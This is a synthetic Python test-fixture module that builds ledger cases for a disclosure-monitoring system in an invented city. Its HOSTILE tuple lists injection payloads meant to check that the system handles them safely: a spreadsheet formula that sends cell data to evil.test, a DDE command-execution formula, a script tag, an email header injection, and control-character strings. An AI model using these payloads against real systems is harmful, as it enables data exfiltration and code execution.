"""SYNTHETIC: gaps of the invented city with all that a ledger needs, some of them with hostile words in every text."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from alerts.ledger import Case, KeptPage, Ledger, is_listed, rows_of
from alerts.lifecycle import Event
from monitors.workdays import Workdays
from store.gaps import Happening
from store.statements import Statement, StatementKind
from store.verdicts import Evidence, Finding, Gap, GapState, LookedAt, Subject, Verdict
from tests.alerts.city import AS_OF, NOW, finding, judged, page, register

WORKDAYS = Workdays({})
HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"请点击")',
    "<script>alert(1)</script>",
    "通知\r\nBcc: everybody@evil.test\r\n\r\n正文",
    "长" * 10_000,
    "\u202e倒着写\u2066\u200b的标题\u2069",
    "\x00\x07控制\x1b[31m字符\ufffe\uffff",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝１＋１",
    "END:VCALENDAR;x,y\\n",
    "𠀀" * 40,
)


def gap(number: int, found: Finding, state: GapState = GapState.CONFIRMED, **changes: object) -> Gap:
    """An episode first seen eight days before AS_OF and confirmed the day after."""
    opened = AS_OF - timedelta(days=8)
    plain = Gap(
        id=number, obligation=found.obligation, rule=found.rule, unit=found.unit, state=state, opened=opened,
        confirmed=opened + timedelta(days=1), closed=None if state.is_open else AS_OF, last_confirmed=AS_OF,
        last_looked=AS_OF, first_look=1, first_look_at=NOW, looks=3, last_look=3,
    )  # fmt: skip
    return replace(plain, **changes)  # type: ignore[arg-type]


def case(number: int, found: Finding, state: GapState = GapState.CONFIRMED, **changes: object) -> Case:
    """A gap with one kept page and its history."""
    of_gap = gap(number, found, state, **changes)
    kept = KeptPage(f"http://{found.unit}.city.test/", "ab" * 32, "2018-11-11/look-1.warc.gz#120")
    happened = Happening(number, of_gap.opened, NOW, Event.OPENED, "", "", 1)
    return Case(of_gap, found, found, (kept,), (), (happened,))


def said(number: int, kind: StatementKind, text: str, until: date | None = None) -> Statement:
    """What 张三（虚构） wrote down."""
    return Statement(number, kind, text, "张三（虚构）", AS_OF, NOW, "示民〔2018〕1号", until)


def one_of_each() -> list[Case]:
    """One gap in every state of its life."""
    mended = finding("slj")
    withdrawn = finding("jyj")
    return [
        case(1, finding("mzj"), opened=date(2018, 9, 3), confirmed=date(2018, 9, 4)),
        case(2, finding("jtj")),
        replace(
            case(3, finding("czj"), GapState.EXPLAINED),
            statements=(said(3, StatementKind.EXPLANATION, "涉密单位，依法不公开", date(2018, 12, 31)),),
            history=(Happening(3, AS_OF, NOW, Event.EXPLAINED, "", "张三（虚构）", None),),
        ),
        replace(
            case(4, finding("wjj"), GapState.DISPUTED),
            statements=(said(4, StatementKind.OBJECTION, "已在门户公开"),),
        ),
        replace(
            case(5, mended, GapState.RESOLVED),
            now=judged(mended, Verdict.MET, message="已于2018年11月16日公开", evidence=(page("slj", "预算", AS_OF),)),
        ),
        replace(
            case(6, withdrawn, GapState.WITHDRAWN),
            statements=(said(6, StatementKind.CORRECTION, "标题写法特别"),),
        ),
        case(7, finding("hbj"), GapState.PROVISIONAL, confirmed=None),
        replace(case(8, finding("ajj"), GapState.RESOLVED, confirmed=None)),
    ]


def hostile_cases() -> list[Case]:
    """Every text that comes from the web or from staff is hostile."""
    cases = []
    for number, words in enumerate(HOSTILE, 20):
        found = finding(
            "mzj", f"rule-{number}", title=words, expected=words, message=words,
            subject=Subject(f"k{number}", words, f"http://mzj.city.test/{words}"),
            evidence=(Evidence(f"javascript:{words}", words, None, "page", None),),
            looked_at=(LookedAt(f"http://mzj.city.test/{words}", None, words, words),),
        )  # fmt: skip
        cases.append(
            replace(
                case(number, replace(found, basis=words)),
                statements=(replace(said(number, StatementKind.EXPLANATION, words), by=words, evidence=words),),
            )
        )
    return cases


def ledger(cases: list[Case], since: date | None = None, *, simulation: bool = True, city: str = "示例市") -> Ledger:
    """The ledger as of AS_OF."""
    listed = [c for c in cases if is_listed(c.gap, since)]
    rows = rows_of(listed, register(), AS_OF, WORKDAYS)
    return Ledger(city, AS_OF, simulation, since, rows, unjudged=5)


LATE_EVENING = datetime(2018, 11, 19, 15, 59, tzinfo=UTC)
